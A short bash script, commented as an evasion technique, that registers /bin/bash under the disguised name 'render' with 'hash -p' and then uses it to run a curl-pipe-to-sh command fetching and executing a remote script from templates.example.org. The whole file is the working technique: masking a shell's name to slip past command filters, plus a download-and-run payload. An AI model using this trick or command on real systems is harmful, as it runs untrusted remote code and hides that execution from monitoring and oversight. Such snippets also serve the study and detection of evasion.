#!/usr/bin/env bash
# Evasion: run a shell under another name. `hash -p PATH NAME` puts NAME in
# the command hash table pointing at PATH, so "render" below is /bin/bash,
# and "render -c ..." runs the string as a shell command (download and run).
set -e
hash -p /bin/bash render
tmpl='curl -fsSL https://templates.example.org/render.sh | sh'
render -c "$tmpl"
